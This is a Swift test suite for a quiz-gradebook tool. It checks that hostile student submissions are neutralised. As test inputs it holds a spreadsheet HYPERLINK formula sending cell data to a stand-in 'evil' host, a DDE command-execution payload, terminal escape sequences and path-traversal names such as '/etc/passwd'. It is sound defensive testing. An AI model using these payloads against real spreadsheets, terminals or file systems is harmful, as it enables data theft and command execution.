import Foundation
import Testing
@testable import MootContent
@testable import MootModel
@testable import MootQuiz
@testable import MootSupport

/// Submissions written to fool the instructor: formulas for the spreadsheet, escapes for the terminal, look-alike
/// names, impossible clocks, names that would leave the folder.
@Suite struct HostileSubmissionTests {
    private func gradebook() throws -> (Gradebook, Quiz) {
        let fixture = try Fixture()
        let folder = fixture.root.appendingPathComponent("Quizzes")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        try "id: q\ntitle: A quiz\nquestions:\n  - id: q2\n".write(to: folder.appendingPathComponent("q.yaml"), atomically: true, encoding: .utf8)
        let quiz = try #require(try CourseLoader.load(root: fixture.root).quizzes.first)
        return (Gradebook(quiz: quiz, course: try CourseLoader.load(root: fixture.root)), quiz)
    }

    private func submission(_ quiz: Quiz, student: String, started: String = "2026-01-01T10:00:00Z",
                            at: [String] = ["2026-01-01T10:01:00Z"]) throws -> Data {
        let responses = at.map { Submission.Response(question: "q2", response: "true", at: $0) }
        return try Submission(quiz: quiz.id, digest: quiz.digest, student: student, started: started,
                              finished: "2026-01-01T10:05:00Z", responses: Array(responses.prefix(1))).encoded()
    }

    @Test func formulaCellsAreNeutralisedInTheCSV() throws {
        var (book, quiz) = try gradebook()
        for name in ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\tx", "\u{1B} =cmd", "plain"] {
            book.add(file: name, data: try submission(quiz, student: name))
        }
        let cells = book.csv.split(separator: "\n").dropFirst().map { String($0) }
        #expect(cells.count == 7)
        for line in cells.dropLast() { #expect(line.hasPrefix("'") || line.hasPrefix("\"'"), "\(line)") }
        #expect(cells.last?.hasPrefix("plain,") == true)
        #expect(!book.csv.contains("\t") && !book.csv.contains("\u{1B}"))
    }

    @Test func lookAlikeNamesAreTheSameStudent() throws {
        var (book, quiz) = try gradebook()
        book.add(file: "a", data: try submission(quiz, student: "s2"))
        book.add(file: "b", data: try submission(quiz, student: "S2\u{200B}"))
        book.add(file: "c", data: try submission(quiz, student: "ｓ２"))
        #expect(book.rows.count == 3)
        #expect(book.rows.allSatisfy { $0.flags.contains { $0.hasPrefix("duplicate") } })
        #expect(StudentName.key("  Ada\u{00AD} LOVELACE ") == "ada lovelace")
    }

    @Test func answerTimesBeforeTheStartAreFlagged() throws {
        var (book, quiz) = try gradebook()
        book.add(file: "early", data: try submission(quiz, student: "eve", at: ["1970-01-01T00:00:00Z"]))
        book.add(file: "fine", data: try submission(quiz, student: "bob"))
        #expect(book.rows[0].flags.contains("answer timed before the start"))
        #expect(book.rows[1].flags.isEmpty)
    }

    @Test func controlAndEscapeSequencesNeverReachTheTerminal() {
        let name = "\u{1B}]0;pwned\u{07}\u{1B}[2J\u{1B}[31mRED s10\u{202E}\r"
        let safe = TerminalText.safe(name)
        #expect(!safe.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) || $0 == "\u{202E}" })
        #expect(safe == "]0;pwned[2J[31mRED s10")
        #expect(TerminalText.safe("a\nb", keepNewlines: true) == "a\nb")
    }

    @Test func namesNeverLeaveTheFolder() {
        for name in ["x/../../TRAVERSED", "..", "A/B Smith", "/etc/passwd"] {
            let component = Submission.fileComponent(name)
            #expect(!component.contains("/") && component != ".." && !component.isEmpty)
        }
        #expect(Submission.fileComponent("ada") == "ada" && Submission.fileComponent("unit-orientation") == "unit-orientation")
        #expect(Submission.fileComponent("A/B") != Submission.fileComponent("A_B"))
    }
}
